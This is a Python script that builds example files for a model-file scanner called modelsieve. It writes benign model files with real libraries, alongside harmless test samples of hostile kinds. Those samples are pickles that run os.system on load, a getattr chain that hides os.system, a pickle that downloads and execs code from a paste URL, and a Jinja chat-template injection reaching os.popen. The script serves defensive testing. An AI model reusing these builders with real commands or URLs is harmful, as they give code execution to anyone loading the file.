"""Generate the bundled examples/ folder: harmless "malicious" samples and real benign files.

The malicious samples only ever run `echo`, open a browser at example.com or fetch a
non-existent paste URL; they exist so that `modelsieve scan examples/` shows real
output on a fresh machine. Benign samples are made by the real libraries when they
are installed (torch, numpy, scikit-learn, safetensors, gguf, onnx); the ones that
need a missing library are left as they are in the repository.

Run: python scripts/make_examples.py [OUTPUT_DIR]
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from pathlib import Path


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def call_pickle(module: str, name: str, *args: str) -> bytes:
    """Protocol-2 pickle that calls module.name(*args) on load."""
    body = _global(module, name) + pickle.MARK + b"".join(_unicode(a) for a in args) + pickle.TUPLE + pickle.REDUCE
    return pickle.PROTO + b"\x02" + body + pickle.STOP


def getattr_chain_pickle(command: str) -> bytes:
    """getattr(__import__('os'), 'system')(command): no GLOBAL names os.system."""
    imp = _global("builtins", "__import__") + pickle.MARK + _unicode("os") + pickle.TUPLE + pickle.REDUCE
    system = _global("builtins", "getattr") + pickle.MARK + imp + _unicode("system") + pickle.TUPLE + pickle.REDUCE
    call = system + pickle.MARK + _unicode(command) + pickle.TUPLE + pickle.REDUCE
    return pickle.PROTO + b"\x02" + call + pickle.STOP


def download_exec_pickle(url: str) -> bytes:
    """exec(urllib.request.urlopen(url).read()) — the paste-site backdoor pattern."""
    opened = _global("urllib.request", "urlopen") + pickle.MARK + _unicode(url) + pickle.TUPLE + pickle.REDUCE
    read = _global("builtins", "getattr") + pickle.MARK + opened + _unicode("read") + pickle.TUPLE + pickle.REDUCE
    body = read + pickle.EMPTY_TUPLE + pickle.REDUCE
    exec_call = _global("builtins", "exec") + pickle.MARK + body + pickle.TUPLE + pickle.REDUCE
    return pickle.PROTO + b"\x02" + exec_call + pickle.STOP


def torch_like_zip(data_pkl: bytes, top: str = "archive") -> bytes:
    """A PyTorch-style zip checkpoint layout around the given data.pkl."""
    buf = io.BytesIO()
    members = {"data.pkl": data_pkl, "byteorder": b"little", ".data/version": b"3\n", "version": b"3\n"}
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            # A fixed timestamp keeps regenerated examples byte-identical.
            zf.writestr(zipfile.ZipInfo(f"{top}/{name}", date_time=(2026, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def make_malicious(out: Path) -> None:
    bad = out / "malicious"
    bad.mkdir(parents=True, exist_ok=True)
    (bad / "runs_echo.pkl").write_bytes(call_pickle("os", "system", "echo modelsieve-example"))
    (bad / "getattr_chain.bin").write_bytes(getattr_chain_pickle("echo modelsieve-example"))
    (bad / "paste_backdoor.model").write_bytes(
        download_exec_pickle("https://pastebin.com/raw/modelsieve-example-does-not-exist")
    )
    (bad / "opens_browser.pt").write_bytes(
        torch_like_zip(call_pickle("webbrowser", "open", "https://example.com/modelsieve-example"))
    )
    chat = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('echo modelsieve-example').read() }}"
    )
    (bad / "tokenizer_config.json").write_text(json.dumps({"chat_template": chat}, indent=2) + "\n")


def make_benign(out: Path) -> None:
    good = out / "benign"
    good.mkdir(parents=True, exist_ok=True)
    (good / "config.json").write_text(
        json.dumps({"architectures": ["TinyNet"], "hidden_size": 8, "model_type": "tiny"}, indent=2) + "\n"
    )
    try:
        import numpy as np
    except ImportError:
        return
    rng = np.random.default_rng(0)
    np.save(good / "embeddings.npy", rng.standard_normal((16, 8)).astype(np.float32))
    (good / "array_protocol2.pkl").write_bytes(pickle.dumps(rng.standard_normal(8), protocol=2))
    try:
        import torch

        torch.manual_seed(0)
        net = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
        torch.save(net.state_dict(), good / "state_dict.pt")
    except ImportError:
        pass
    try:
        import joblib
        from sklearn.linear_model import LogisticRegression

        x = rng.standard_normal((20, 3))
        y = (x[:, 0] > 0).astype(int)
        joblib.dump(LogisticRegression().fit(x, y), good / "classifier.joblib", compress=3)
    except ImportError:
        pass
    try:
        from safetensors.numpy import save_file

        save_file({"w": rng.standard_normal((4, 4)).astype(np.float32)}, str(good / "model.safetensors"))
    except ImportError:
        pass


def main() -> None:
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "examples"
    make_malicious(out)
    make_benign(out)


if __name__ == "__main__":
    main()
